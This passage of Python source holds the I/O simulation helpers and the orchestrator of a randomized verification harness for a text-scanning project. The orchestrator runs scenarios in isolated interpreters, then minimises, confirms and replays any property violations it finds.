        self.chunks = []
        pos = 0
        while pos < len(self.data):
            k = _pick_chunk(rng, knobs, min(len(self.data) - pos, 32768))
            if len(self.chunks) > 300:
                k = len(self.data) - pos
            self.chunks.append(self.data[pos : pos + k])
            pos += k
        counters["stdin_chunks"] = counters.get("stdin_chunks", 0) + len(self.chunks)
        self.rfd, self.wfd = os.pipe()
        self._stop = False
        # a harness thread, not a task of the simulation: started below threading
        import _thread

        self._done = _thread.allocate_lock()
        self._done.acquire()

    def start(self):
        import _thread

        def body():
            try:
                self._run()
            finally:
                self._done.release()

        _thread.start_new_thread(body, ())

    def _pending(self):
        import array
        import fcntl
        import termios

        buf = array.array("i", [0])
        fcntl.ioctl(self.rfd_probe, termios.FIONREAD, buf)
        return buf[0]

    def _run(self):
        import select

        try:
            for ch in self.chunks:
                while not self._stop and self._pending() > 0:
                    select.select([], [], [], 0.0002)  # real wait; affects timing only, never the bytes per read
                if self._stop:
                    break
                os.write(self.wfd, ch)
            while not self._stop and self._pending() > 0:
                select.select([], [], [], 0.0002)
        except OSError:
            pass
        finally:
            try:
                os.close(self.wfd)
            except OSError:
                pass

    def install(self):
        """Make the pipe's read end descriptor 0 of this process."""
        self.saved0 = os.dup(0)
        os.dup2(self.rfd, 0)
        os.close(self.rfd)
        self.rfd_probe = os.dup(0)
        self.start()

    def uninstall(self):
        self._stop = True
        os.dup2(self.saved0, 0)
        os.close(self.saved0)
        self._done.acquire(timeout=5)
        try:
            os.close(self.rfd_probe)
        except OSError:
            pass


class FdView(io.RawIOBase):
    """What open(1, 'wb', buffering=0) / os.fdopen(1, ...) gives the simulated
    process: another handle on its standard output.  Writes go to the same
    simulated descriptor and are subject to the same short writes and faults."""

    def __init__(self, raw_out):
        super().__init__()
        self._raw = raw_out
        self.name = 1
        self.mode = "wb"

    def writable(self):
        return True

    def fileno(self):
        return 1

    def isatty(self):
        return False

    def write(self, b):
        while True:
            try:
                return self._raw.write(b)
            except InterruptedError:
                continue  # FileIO.write retries EINTR itself (PEP 475)


class ProcFds:
    """Descriptor table of the simulated process, as far as Python-level code
    can reach it: os.write(1, ...), open(1, ...), os.fdopen(1, ...)."""

    def __init__(self, raw_out, counters):
        self.raw_out = raw_out
        self.counters = counters

    def os_write(self, fd, data):
        if fd == 1:
            self.counters["direct_fd_writes"] = self.counters.get("direct_fd_writes", 0) + 1
            n = None
            while n is None:
                try:
                    n = self.raw_out.write(data)
                except InterruptedError:
                    continue  # PEP 475: os.write retries EINTR itself
            return n
        return _real_os_write(fd, data)

    def open_fd(self, fd, mode="r", buffering=-1, encoding=None, errors=None, newline=None, closefd=True, opener=None):
        if fd != 1 or not any(c in mode for c in "wa"):
            return None
        self.counters["direct_fd_opens"] = self.counters.get("direct_fd_opens", 0) + 1
        raw = FdView(self.raw_out)
        if "b" in mode:
            if buffering == 0:
                return raw
            return io.BufferedWriter(raw, buffer_size=buffering if buffering and buffering > 1 else 8192)
        buf = io.BufferedWriter(raw, buffer_size=buffering if buffering and buffering > 1 else 8192)
        return io.TextIOWrapper(buf, encoding=encoding or "utf-8", errors=errors, newline=newline, line_buffering=(buffering == 1))

    def install(self, fs):
        fs.proc = self
        os.write = self.os_write
        proc = self

        def fdopen(fd, mode="r", buffering=-1, encoding=None, *args, **kwargs):
            f = proc.open_fd(fd, mode, buffering, encoding, *args, **kwargs) if isinstance(fd, int) else None
            return f if f is not None else _real_fdopen(fd, mode, buffering, encoding, *args, **kwargs)

        os.fdopen = fdopen

    def uninstall(self, fs):
        fs.proc = None
        os.write = _real_os_write
        os.fdopen = _real_fdopen


class FifoFeeder:
    """A named pipe given to the CLI as FILE, filled like PipeFeeder fills
    stdin: the next seeded chunk is written only when the pipe is empty."""

    def __init__(self, path, data, rng, knobs, counters):
        import _thread

        self.path = path
        self.data = bytes(data)
        self.chunks = []
        pos = 0
        while pos < len(self.data):
            k = _pick_chunk(rng, knobs, min(len(self.data) - pos, 32768))
            if len(self.chunks) > 300:
                k = len(self.data) - pos
            self.chunks.append(self.data[pos : pos + k])
            pos += k
        counters["fifo_chunks"] = counters.get("fifo_chunks", 0) + len(self.chunks)
        if os.path.exists(path):
            os.unlink(path)
        os.mkfifo(path)
        self._stop = False
        self._done = _thread.allocate_lock()
        self._done.acquire()

    def start(self):
        import _thread

        _thread.start_new_thread(self._run, ())

    def _run(self):
        import array
        import fcntl
        import select
        import termios

        fd = None
        try:
            while not self._stop and fd is None:
                try:
                    fd = os.open(self.path, os.O_WRONLY | os.O_NONBLOCK)
                except OSError:
                    select.select([], [], [], 0.0005)  # no reader yet
            if fd is None:
                return
            fcntl.fcntl(fd, fcntl.F_SETFL, fcntl.fcntl(fd, fcntl.F_GETFL) & ~os.O_NONBLOCK)
            buf = array.array("i", [0])

            def pending():
                fcntl.ioctl(fd, termios.FIONREAD, buf)
                return buf[0]

            for ch in self.chunks:
                while not self._stop and pending() > 0:
                    select.select([], [], [], 0.0002)
                if self._stop:
                    break
                os.write(fd, ch)
            while not self._stop and pending() > 0:
                select.select([], [], [], 0.0002)
        except OSError:
            pass
        finally:
            if fd is not None:
                try:
                    os.close(fd)
                except OSError:
                    pass
            self._done.release()

    def stop(self):
        self._stop = True
        self._done.acquire(timeout=5)
        try:
            os.unlink(self.path)
        except OSError:
            pass
