"""Orchestrator: fan scenarios out over worlds (fresh interpreters), apply the
cross-world and per-world oracles, minimise and confirm failures, write
evidence and replay files.

Exit status: 0 held / only known findings; 1 confirmed violation (VIOLATION
line printed); 2 harness error, stall or inconclusive.
"""

from __future__ import annotations

import argparse
import atexit
import copy
import hashlib
import json
import os
import shutil
import subprocess
import sys
import time
from concurrent.futures import ThreadPoolExecutor

HERE = os.path.dirname(os.path.abspath(__file__))
VERIF = os.path.dirname(HERE)
sys.path.insert(0, HERE)

import gen  # noqa: E402
import model  # noqa: E402
import shrink  # noqa: E402

PY = "/venv/bin/python"
REPO = os.path.realpath(os.environ.get("VERIF_REPO", "/repo"))
WORLD = os.path.join(HERE, "world.py")
SCRATCH_TOP = os.path.join(os.environ.get("VERIF_TMP", "/tmp"), f"mdsim-{os.getpid()}")
WORLD_TIMEOUT = int(os.environ.get("VERIF_WORLD_TIMEOUT", "3000"))
NPROC = int(os.environ.get("VERIF_JOBS", "0")) or min(16, os.cpu_count() or 4)

_counter = [0]
_pool = None
_SLOW = []


def pool():
    global _pool
    if _pool is None:
        _pool = ThreadPoolExecutor(max_workers=NPROC)
    return _pool


def _cleanup():
    shutil.rmtree(SCRATCH_TOP, ignore_errors=True)


atexit.register(_cleanup)


_T0 = time.time()


def dbg(*a):
    if os.environ.get("VERIF_DEBUG"):
        print(f"[{time.time() - _T0:7.1f}s]", *a, file=sys.stderr, flush=True)


SIMCLOCK_SO = os.path.join(VERIF, ".build", "libsimclock.so")
SIMCLOCK_SRC = os.path.join(HERE, "simclock.c")


def ensure_simclock():
    """Build the LD_PRELOAD clock() shim if a C compiler is there (setup_cmd does the same).
    Returns True if the shim is available."""
    try:
        if os.path.exists(SIMCLOCK_SO) and os.path.getmtime(SIMCLOCK_SO) >= os.path.getmtime(SIMCLOCK_SRC):
            return True
        os.makedirs(os.path.dirname(SIMCLOCK_SO), exist_ok=True)
        for cc in ("clang", "gcc", "cc"):
            if shutil.which(cc):
                tmp = SIMCLOCK_SO + f".{os.getpid()}.tmp"
                r = subprocess.run([cc, "-shared", "-fPIC", "-O2", "-o", tmp, SIMCLOCK_SRC], capture_output=True)
                if r.returncode == 0:
                    os.replace(tmp, SIMCLOCK_SO)
                    return True
        return False
    except OSError:
        return False


_SIMCLOCK = [None]


def derive_seed(master, prop, index):
    h = hashlib.sha256(f"{master}/{prop}/{index}".encode()).digest()
    return int.from_bytes(h[:6], "big")


# --------------------------------------------------------------------------
# running worlds


class HarnessError(Exception):
    pass


def run_world(scn, widx, verbose=False):
    w = scn["worlds"][widx]
    _counter[0] += 1
    scratch = os.path.join(SCRATCH_TOP, f"w{_counter[0]}-{widx}")
    os.makedirs(scratch, exist_ok=True)
    env = {
        "PATH": os.environ.get("PATH", "/usr/bin:/bin"),
        "PYTHONHASHSEED": str(w.get("hashseed", 0)),
        "PYTHONDONTWRITEBYTECODE": "1",
        "VERIF_REPO": REPO,
        "VERIF_SCRATCH": scratch,
    }
    if _SIMCLOCK[0] is None:
        _SIMCLOCK[0] = ensure_simclock()
    if _SIMCLOCK[0]:
        # clock() as C extensions see it (regex's timeout=) is simulated too, from the same env_seed
        env["LD_PRELOAD"] = SIMCLOCK_SO
        env["VERIF_SIMCLOCK_SEED"] = str(int(w.get("env_seed", 0) or 0))
    e = w.get("env") or {}
    if e.get("LC_ALL"):
        env["LC_ALL"] = e["LC_ALL"]
    # HOME / TMPDIR / XDG_CACHE_HOME never point at the real home or /tmp: a change under test that
    # keeps state on disk writes into the check's own scratch area (private to the world, or shared by
    # all worlds of this run), which is removed afterwards.
    shared = os.path.join(SCRATCH_TOP, "shared")
    env["HOME"] = scratch
    env["TMPDIR"] = scratch
    for k, v in sorted((e.get("vars") or {}).items()):
        if v == "@scratch":
            v = scratch
        elif v == "@shared":
            v = os.path.join(shared, k.lower())
            os.makedirs(v, exist_ok=True)
        env[k] = v
    cmd = [PY]
    if e.get("opt"):
        cmd.append(e["opt"])
    cmd += ["-X", "faulthandler", WORLD]
    req = json.dumps({"scenario": scn, "world": widx, "verbose": verbose})
    t_start = time.time()
    try:
        p = subprocess.run(cmd, input=req.encode(), stdout=subprocess.PIPE, stderr=subprocess.PIPE, env=env, timeout=WORLD_TIMEOUT, cwd=scratch)
    except subprocess.TimeoutExpired as ex:
        return {"ok": False, "harness_error": f"world timed out after {WORLD_TIMEOUT}s", "stall": True,
                "stderr": (ex.stderr or b"")[-2000:].decode("utf-8", "replace")}
    finally:
        shutil.rmtree(scratch, ignore_errors=True)
    try:
        out = json.loads(p.stdout.decode("utf-8").strip().splitlines()[-1])
    except Exception:  # noqa: BLE001
        return {"ok": False, "harness_error": f"world exited {p.returncode} without a log",
                "stderr": p.stderr[-3000:].decode("utf-8", "replace")}
    if p.returncode != 0:
        out = {"ok": False, "harness_error": f"world exited {p.returncode}", "stderr": p.stderr[-3000:].decode("utf-8", "replace")}
    if os.environ.get("VERIF_DEBUG"):
        _SLOW.append((round(time.time() - t_start, 1), scn.get("seed"), widx, [o[0] + (":" + o[3].get("scope", "") + ":" + o[3].get("policy", "") if o[0] == "par_scan" else "") for o in w.get("ops", [])][:14]))
    return out


def run_many(scenarios, verbose=False):
    """Run every world of every scenario; returns list (per scenario) of lists
    (per world) of world logs."""
    futs = []
    for si, scn in enumerate(scenarios):
        futs.append([pool().submit(run_world, scn, wi, verbose) for wi in range(len(scn["worlds"]))])
    return [[f.result() for f in fs] for fs in futs]


def world_digest(out):
    o = {k: v for k, v in out.items() if k not in ("forms",)}
    return model.digest(o)


# --------------------------------------------------------------------------
# oracles -> list of violation dicts {clause, ...}


def evaluate(scn, outs):
    """Return (violations, harness_errors)."""
    errs = [o.get("harness_error") + ((" | " + o.get("traceback", o.get("stderr", ""))[-600:]) if (o.get("traceback") or o.get("stderr")) else "")
            for o in outs if not o.get("ok")]
    if errs:
        return [], errs
    viols = []
    prop = scn["property"]
    for wi, o in enumerate(outs):
        for v in o.get("violations", []):
            vv = dict(v)
            vv["world"] = wi
            viols.append(vv)
    if prop == "C09":
        groups = {}
        for wi, o in enumerate(outs):
            for r in o["results"]:
                if r.get("exc") in ("MemoryError", "RecursionError"):
                    # resource exhaustion depends on the harness's own limits and on what else is on the
                    # stack / in memory (four tasks at once need four times the memory): no information
                    continue
                groups.setdefault(r["key"], []).append((wi, r))
        for key in sorted(groups):
            rs = groups[key]
            digs = sorted({r["digest"] for _, r in rs})
            if len(digs) > 1:
                first = rs[0]
                other = next(x for x in rs if x[1]["digest"] != first[1]["digest"])
                viols.append({
                    "clause": "results_differ", "key": key,
                    "a": {"world": first[0], "op": first[1]["op"], "task": first[1].get("task"), "digest": first[1]["digest"]},
                    "b": {"world": other[0], "op": other[1]["op"], "task": other[1].get("task"), "digest": other[1]["digest"]},
                    "same_world": first[0] == other[0] or any(
                        a[0] == b[0] and a[1]["digest"] != b[1]["digest"] for a in rs for b in rs),
                    "ndigests": len(digs),
                })
    return viols, []


def clause_set(viols):
    return sorted({v["clause"] for v in viols})


# --------------------------------------------------------------------------
# known findings


def load_known():
    p = os.path.join(VERIF, "known_findings.json")
    try:
        with open(p) as fh:
            return json.load(fh)
    except FileNotFoundError:
        return {"findings": [], "fixed": []}


def match_known(known, prop, sig):
    for f in known.get("findings", []):
        if f.get("property") != prop:
            continue
        m = f.get("match", {})
        if all(sig.get(k) == v for k, v in m.items()):
            return f
    return None


# --------------------------------------------------------------------------
# minimisation


class Budget:
    def __init__(self, n, wall=None):
        self._left = n
        self.used = 0
        self.deadline = (time.time() + wall) if wall else None

    @property
    def left(self):
        if self.deadline is not None and time.time() > self.deadline:
            return 0
        return self._left

    @left.setter
    def left(self, v):
        self._left = v


class Tester:
    """test(scn) -> does the same violation class persist?  .many(scns)
    evaluates several candidates in parallel (list of bools, in order)."""

    def __init__(self, clause, budget):
        self.clause = clause
        self.budget = budget

    def _judge(self, scn, outs):
        viols, errs = evaluate(scn, outs)
        if errs:
            return False
        return any(v["clause"] == self.clause for v in viols)

    def __call__(self, scn):
        return self.many([scn])[0]

    def many(self, scns):
        scns = list(scns)
        out = []
        # sub-batches, so that the wall budget is honoured and a hit ends the round early
        for c0 in range(0, len(scns), NPROC):
            part = scns[c0 : c0 + NPROC]
            n = max(0, min(len(part), self.budget.left))
            if n == 0:
                break
            self.budget.left -= n
            self.budget.used += n
            try:
                outs_all = run_many(part[:n])
            except Exception:  # noqa: BLE001
                break
            res = [self._judge(s, o) for s, o in zip(part, outs_all)]
            out += res
            if any(res):
                break
        return out + [False] * (len(scns) - len(out))


def make_test(clause, budget):
    return Tester(clause, budget)


def explicitise(scn, test):
    """Replace every policy-driven par_scan schedule by the explicit decision
    list it produced, then ddmin the decisions."""
    outs = run_many([scn], verbose=True)[0]
    if any(not o.get("ok") for o in outs):
        return scn
    cand = copy.deepcopy(scn)
    changed = False
    for wi, o in enumerate(outs):
        for it in o.get("interleavings", []):
            op = cand["worlds"][wi]["ops"][it["op"]]
            if op[0] == "par_scan" and it.get("decisions") is not None and op[3].get("policy") != "explicit":
                op[3] = {"policy": "explicit", "scope": op[3].get("scope", "engine"), "decisions": it["decisions"]}
                changed = True
    if not changed or not test(cand):
        return scn
    scn = cand
    for wi, w in enumerate(scn["worlds"]):
        for oi, op in enumerate(w["ops"]):
            if op[0] == "par_scan" and op[3].get("policy") == "explicit" and len(op[3]["decisions"]) <= 4000:
                def build(dec, wi=wi, oi=oi):
                    c = copy.deepcopy(scn)
                    c["worlds"][wi]["ops"][oi][3]["decisions"] = dec
                    return c
                kept = shrink.dd(op[3]["decisions"], build, test)
                scn = build(kept)
    return scn


def minimise(scn, viol, budget_n=400, wall=None):
    if wall is None:
        wall = float(os.environ.get("VERIF_MIN_WALL", "90"))
    budget = Budget(budget_n, wall)
    test = make_test(viol["clause"], budget)
    prop = scn["property"]
    scn = copy.deepcopy(scn)
    if prop == "C09":
        scn = shrink.shrink_c09(scn, viol, test)
        if any(op[0] == "par_scan" for w in scn["worlds"] for op in w["ops"]):
            scn = explicitise(scn, test)
    elif prop == "C18":
        scn = shrink.shrink_c18(scn, viol, test)
    else:
        scn = shrink.shrink_c20(scn, viol, test)
    return scn, budget.used


def _seq_ops(ops):
    out = []
    for op in ops:
        if op[0] == "par_scan":
            out.extend(["scan_node" if len(j) > 2 and j[2] else "scan", op[1], j[0], j[1]] for j in op[2])
        elif op[0] == "abort_scan":
            out.append(["scan", op[1], op[2], op[3]])
        else:
            out.append(op)
    return out


def mechanism_c09(scn, test):
    """Neutralise one perturbation at a time (cumulatively, keeping every
    neutralisation under which the failure persists); the perturbations that
    could not be neutralised name the mechanism."""
    scn = copy.deepcopy(scn)
    needed = []
    ws = scn["worlds"]

    def attempt(name, mutate, differs):
        nonlocal scn
        if not differs:
            return
        trial = copy.deepcopy(scn)
        mutate(trial)
        if test(trial):
            scn = trial
        else:
            needed.append(name)

    def set_all(knob, value):
        def m(t):
            for w in t["worlds"]:
                w[knob] = copy.deepcopy(value)
        return m

    attempt("hashseed", set_all("hashseed", ws[0].get("hashseed", 0)), len({w.get("hashseed", 0) for w in ws}) > 1)
    attempt("enum-order", set_all("enum_seed", 0), any(w.get("enum_seed") for w in ws))
    attempt("env", set_all("env", {"LC_ALL": None, "opt": ""}), any((w.get("env") or {}) != {"LC_ALL": None, "opt": ""} for w in ws))
    attempt("clock-or-random", set_all("env_seed", 0), any(w.get("env_seed") for w in ws))
    attempt("gc-or-recursion-limit", set_all("runtime", None), any(w.get("runtime") for w in ws))

    def io_default(t):
        for w in t["worlds"]:
            w["io"] = {"chunk": "full"}
            w["io_seed"] = 0
            w["default_ctor"] = False
    attempt("io", io_default, any(w.get("io") != {"chunk": "full"} or w.get("io_seed") or w.get("default_ctor") for w in ws))

    def seq(t):
        for w in t["worlds"]:
            w["ops"] = _seq_ops(w["ops"])
    attempt("schedule-or-abort", seq, any(op[0] in ("par_scan", "abort_scan") for w in ws for op in w["ops"]))
    if len(scn["worlds"]) > 1:
        def same_ops(t):
            for w in t["worlds"][1:]:
                w["ops"] = copy.deepcopy(t["worlds"][0]["ops"])
        attempt("history", same_ops, any(w["ops"] != scn["worlds"][0]["ops"] for w in scn["worlds"][1:]))
    if not needed:
        # nothing the simulator controls is needed
        if len(scn["worlds"]) > 1:
            needed = ["unseeded"]
        else:
            needed = ["history"]
    return scn, needed


# --------------------------------------------------------------------------
# evidence helpers


def add_counters(total, c):
    for k, v in (c or {}).items():
        if isinstance(v, bool):
            v = int(v)
        if isinstance(v, (int, float)):
            if k.endswith("_max"):
                total[k] = max(total.get(k, 0), v)
            else:
                total[k] = total.get(k, 0) + v


def scenario_digest(scn):
    s = {k: v for k, v in scn.items() if k != "seed"}
    return model.digest(s)


def nontrivial(scn, outs):
    prop = scn["property"]
    if prop == "C09":
        ties = any(r.get("ties", 0) > 0 for o in outs for r in o.get("results", []))
        eng = any(i.get("engine_switches", 0) > 0 for o in outs for i in o.get("interleavings", []))
        return ties or eng
    if prop == "C18":
        lay = scn["layout"]
        if not (len(lay["files"]) >= 2 or lay["dirs"]):
            return False
        names = [f["path"].rsplit("/", 1)[-1] for f in lay["files"]]
        dup = len(set(names)) != len(names)
        crlf = any("0d0a" in f["content"] for f in lay["files"])
        empty = any(not model.split_lines(bytes.fromhex(f["content"])) for f in lay["files"])
        nops = max(len(w["ops"]) for w in scn["worlds"])
        overlap = any(
            op[0] in ("get_analyzers", "build_registry") and op[2 if op[0] == "build_registry" else 1] and op[3 if op[0] == "build_registry" else 2]
            and set(op[2 if op[0] == "build_registry" else 1][1]) & set(op[3 if op[0] == "build_registry" else 2][1])
            for w in scn["worlds"] for op in w["ops"])
        return dup or crlf or empty or overlap or nops >= 2
    if prop == "C20":
        o = outs[0]
        ev = o.get("events", [])
        nodes = ev[0]["nodes"] if ev else 0
        fs = o.get("fs", {})
        c = o.get("counters", {})
        multi = c.get("raw_reads", 0) >= 2 or c.get("raw_writes", 0) >= 2 or fs.get("raw_reads", 0) >= 2
        return nodes >= 3 and multi
    return False


# --------------------------------------------------------------------------
# main batch


def batch_sizes(prop, tier):
    q = {"C09": 288, "C18": 320, "C20": 320}
    t = {"C09": 1500, "C18": 16000, "C20": 10000}
    n = (q if tier == "quick" else t)[prop]
    scale = float(os.environ.get("VERIF_SCALE", "1"))
    return max(4, int(n * scale))


def generate(prop, master, index, shipped, tier):
    return gen.GEN[prop](derive_seed(master, prop, index), shipped, tier)


def write_json(path, obj):
    os.makedirs(os.path.dirname(path), exist_ok=True)
    tmp = path + ".tmp"
    with open(tmp, "w") as fh:
        json.dump(obj, fh, indent=1, sort_keys=True)
        fh.write("\n")
    os.replace(tmp, path)


def sample_view(scn):
    s = copy.deepcopy(scn)
    # keep samples readable
    if "corpus" in s:
        s["corpus"] = [c[:160] + ("…" if len(c) > 160 else "") for c in s["corpus"]]
    if "input" in s:
        s["input"] = s["input"][:240] + ("…" if len(s["input"]) > 240 else "")
    return s


def confirm(scn, clause, times=3):
    ok = 0
    for _ in range(times):
        outs = run_many([scn])[0]
        viols, errs = evaluate(scn, outs)
        if not errs and any(v["clause"] == clause for v in viols):
            ok += 1
    return ok


def describe(scn, viol, verbose_outs):
    """Human-readable account of a violation for the replay file."""
    d = dict(viol)
    if scn["property"] == "C09" and viol["clause"] == "results_differ":
        fa = fb = None
        for o in verbose_outs:
            forms = o.get("forms", {})
            fa = fa or forms.get(viol["a"]["digest"])
            fb = fb or forms.get(viol["b"]["digest"])
        if fa and fb:
            if fa[0] == "EXC" or fb[0] == "EXC" or not isinstance(fa[-1], list):
                d["difference"] = f"{fa!r:.300} vs {fb!r:.300}"
            else:
                d["difference"] = model.canon_diff(fa, fb)
    return d


def replay(path):
    with open(path) as fh:
        doc = json.load(fh)
    scn = doc["scenario"] if "scenario" in doc else doc
    outs = run_many([scn], verbose=True)[0]
    viols, errs = evaluate(scn, outs)
    if errs:
        print("HARNESS-ERROR:", errs[0])
        return 2
    if not viols:
        print(f"replay of {path}: no violation (property held)")
        return 0
    for v in viols:
        print("replayed:", json.dumps(describe(scn, v, outs), sort_keys=True)[:1200])
    print(f"VIOLATION property={scn['property']} replay={path}")
    return 1


def run_check(prop, tier, master, only_index=None):
    t0 = time.time()
    print(f"VERIF_SEED={master} property={prop} tier={tier} repo={REPO} jobs={NPROC}")
    shipped = gen.shipped_summary(REPO)
    n = batch_sizes(prop, tier)
    known = load_known()
    totals = {}
    fs_totals = {}
    env_totals = {}
    kernel_totals = {}
    labels_seen = {}
    digests = set()
    nontriv = set()
    samples = []
    evaluations = 0
    worlds_run = 0
    harness_errors = []
    failing = []  # (scn, viol)
    interleavings = set()
    hashseeds = set()
    enum_seeds = set()
    families = {}
    first_digests = {}
    pm_jobs = []
    # Regression scenarios: the minimised replays of every defect found so far (findings/baseline-*)
    # are executed first, in every tier, so that a revert of a repair is caught deterministically.
    regress = []
    if only_index is None:
        import glob

        for path in sorted(glob.glob(os.path.join(VERIF, "findings", f"baseline-{prop}-*.json"))):
            try:
                with open(path) as fh:
                    doc = json.load(fh)
                regress.append((os.path.basename(path), doc["scenario"] if "scenario" in doc else doc))
            except Exception as ex:  # noqa: BLE001
                harness_errors.append((-1, f"cannot load {path}: {ex}"))
    if regress:
        outs_all = run_many([scn for _, scn in regress])
        for k, ((name, scn), outs) in enumerate(zip(regress, outs_all)):
            evaluations += 1
            worlds_run += len(outs)
            viols, errs = evaluate(scn, outs)
            if errs:
                harness_errors.append((-1 - k, f"{name}: {errs[0]}"))
            elif viols:
                failing.append((-1 - k, scn, viols))
    indices = range(n) if only_index is None else [only_index]
    chunk = 48
    idx_list = list(indices)
    deadline = float(os.environ.get("VERIF_WALL", "0")) or None
    for c0 in range(0, len(idx_list), chunk):
        if deadline and time.time() - t0 > deadline:
            print(f"wall budget reached after {evaluations} scenarios")
            break
        idxs = idx_list[c0 : c0 + chunk]
        scns = [generate(prop, master, i, shipped, tier) for i in idxs]
        outs_all = run_many(scns)
        for i, scn, outs in zip(idxs, scns, outs_all):
            evaluations += 1
            worlds_run += len(outs)
            viols, errs = evaluate(scn, outs)
            if errs:
                harness_errors.append((i, errs[0]))
                continue
            first_digests[i] = [world_digest(o) for o in outs]
            for w in scn["worlds"]:
                hashseeds.add(w.get("hashseed"))
                enum_seeds.add(w.get("enum_seed"))
            fam = scn.get("family", "all")
            families[fam] = families.get(fam, 0) + 1
            for o in outs:
                for lb in o.get("labels", []) + [x for e in o.get("events", []) for x in e.get("labels", [])]:
                    labels_seen[lb] = labels_seen.get(lb, 0) + 1
                add_counters(totals, o.get("counters"))
                add_counters(fs_totals, o.get("fs"))
                add_counters(env_totals, o.get("envsim"))
                add_counters(kernel_totals, o.get("kernel"))
                for it in o.get("interleavings", []):
                    if it.get("switches"):
                        interleavings.add(it["digest"])
            dg = scenario_digest(scn)
            digests.add(dg)
            if nontrivial(scn, outs):
                nontriv.add(dg)
                if len(samples) < 3:
                    samples.append(sample_view(scn))
            if prop == "C09":
                add_counters(totals, {
                    "results": sum(len(o["results"]) for o in outs),
                    "tie_groups_exercised": sum(r.get("ties", 0) for o in outs for r in o["results"]),
                    "decoded_nodes": sum(r.get("decoded", 0) for o in outs for r in o["results"]),
                    "results_with_ties": sum(1 for o in outs for r in o["results"] if r.get("ties", 0)),
                })
            if viols:
                failing.append((i, scn, viols))
            elif prop == "C20" and i % (16 if tier == "quick" else 40) == 0:
                pm_jobs.append(pool().submit(validate_process_model, scn, outs))
        if failing and (tier == "quick" or len(failing) >= 12):
            break
    # ---- determinism gate on a sample: same scenario, fresh interpreters, twice
    gate_n = min(len(first_digests), 24 if tier == "quick" else 400)
    gate_idx = sorted(first_digests)[:: max(1, len(first_digests) // max(1, gate_n))][:gate_n]
    unstable = []
    if gate_idx and not failing:
        scns = [generate(prop, master, i, shipped, tier) for i in gate_idx]
        outs_all = run_many(scns)
        for i, scn, outs in zip(gate_idx, scns, outs_all):
            if any(not o.get("ok") for o in outs):
                harness_errors.append((i, "gate rerun: " + str([o.get("harness_error") for o in outs if not o.get("ok")][:1])))
                continue
            if [world_digest(o) for o in outs] != first_digests[i]:
                unstable.append(i)
    pm = {"runs_compared_with_real_child": 0, "mismatches": 0, "details": []}
    for j in pm_jobs:
        try:
            c, m, d = j.result()
        except Exception as ex:  # noqa: BLE001
            c, m, d = 0, 0, [{"error": str(ex)[:200]}]
        pm["runs_compared_with_real_child"] += c
        pm["mismatches"] += m
        pm["details"] += d[:3]
    pm["details"] = pm["details"][:5]
    # ---- violations: minimise, confirm, match against known findings
    exit_code = 0
    reported = []
    known_lines = []
    seen_sigs = set()
    dbg("batch done", evaluations, "failing", len(failing))
    for rec in sorted(_SLOW, key=lambda r: -r[0])[:12]:
        dbg("slow world", rec)
    groups = {}
    for i, scn, viols in failing[: (4 if tier == "quick" else 12)]:
        for clause in clause_set(viols):
            v = next(x for x in viols if x["clause"] == clause)
            pre = ()
            if prop == "C09" and clause == "results_differ" and any(f.get("property") == prop for f in known.get("findings", [])):
                # only needed so that a listed finding cannot mask a different mechanism
                keep = sorted({v["a"]["world"], v["b"]["world"]})
                cand = copy.deepcopy(scn)
                cand["worlds"] = [scn["worlds"][k] for k in keep]
                t = make_test(clause, Budget(12))
                if not t(cand):
                    cand = scn
                _, m = mechanism_c09(cand, t)
                pre = tuple(m)
            groups.setdefault((clause, pre), []).append((i, scn, v))
    post_deadline = time.time() + float(os.environ.get("VERIF_POST_WALL", "300" if tier == "quick" else "1200"))
    for (clause, pre), members in sorted(groups.items()):
        for i, scn, v in members[:1]:
            dbg("minimise", clause, pre, "scenario", i)
            small, used = minimise(scn, v, wall=max(5.0, min(float(os.environ.get("VERIF_MIN_WALL", "90")), post_deadline - time.time())))
            dbg("minimised in", used, "runs")
            outs = run_many([small], verbose=True)[0]
            sviols, serrs = evaluate(small, outs)
            sv = next((x for x in sviols if x["clause"] == clause), None)
            if sv is None:
                small, sv = scn, v
                outs = run_many([small], verbose=True)[0]
            mech = []
            if prop == "C09" and clause == "results_differ":
                small, mech = mechanism_c09(small, make_test(clause, Budget(40)))
                outs = run_many([small], verbose=True)[0]
                sviols, _ = evaluate(small, outs)
                sv = next((x for x in sviols if x["clause"] == clause), sv)
            sig = {"property": prop, "clause": clause, "mechanism": "+".join(mech) if mech else None}
            sig.update(shrink.witness(small, sv, outs))
            sigkey = json.dumps(sig, sort_keys=True)
            if sigkey in seen_sigs:
                continue
            seen_sigs.add(sigkey)
            dbg("mechanism", mech)
            nconf = confirm(small, clause)
            dbg("confirmed", nconf)
            if nconf < 3 and prop == "C09" and clause == "results_differ":
                # Nondeterminism no seed controls (object addresses, GC timing): one replay reproduces it
                # only with some probability.  Repeat every scan of the minimised scenario so that two
                # different results for one key within a run become practically certain.
                amp = copy.deepcopy(small)
                for w in amp["worlds"]:
                    w["ops"] = [o for op in w["ops"] for o in ([op] * (16 if op[0] in ("scan", "scan_node") else 1))]
                n2 = confirm(amp, clause)
                dbg("amplified confirm", n2)
                if n2 == 3:
                    small, nconf = amp, 3
                    mech = sorted(set(mech) | {"unseeded(amplified x16)"})
                    outs = run_many([small], verbose=True)[0]
                    sviols, _ = evaluate(small, outs)
                    sv = next((x for x in sviols if x["clause"] == clause), sv)
                    sig["mechanism"] = "+".join(mech)
            desc = describe(small, sv, outs)
            k = match_known(known, prop, sig)
            if k and nconf == 3:
                known_lines.append(f"KNOWN-FINDING: property={prop} {k.get('what', k.get('id'))}")
                continue
            rp = os.path.join(os.environ.get("VERIF_REPLAY_DIR") or os.path.join(VERIF, "replays"), f"{prop}-{scn['seed']}-{clause}.json")
            write_json(rp, {"scenario": small, "signature": sig, "violation": desc, "found_at": {"VERIF_SEED": master, "index": i, "tier": tier},
                            "minimisation_runs": used, "confirmed": f"{nconf}/3"})
            if nconf == 3:
                reported.append((sig, rp, desc))
            else:
                harness_errors.append((i, f"violation {clause} did not replay 3/3 ({nconf}/3): inconclusive, replay kept at {rp}"))
    for ln in sorted(set(known_lines)):
        print(ln)
    for sig, rp, desc in reported:
        print("violation:", json.dumps(desc, sort_keys=True)[:1500])
        print(f"VIOLATION property={prop} replay={rp}")
        exit_code = 1
    wall = time.time() - t0
    rule = {
        "C09": "scenario = configuration x corpus x 2-4 worlds (hash seed, enumeration seed, env, op history incl. scheduled par_scan); non-trivial = some result contains a tie group (two kept hits with the same absolute span) or a par_scan had >=1 pre-emption inside multidecoder.py; distinct by digest of (config, corpus, worlds)",
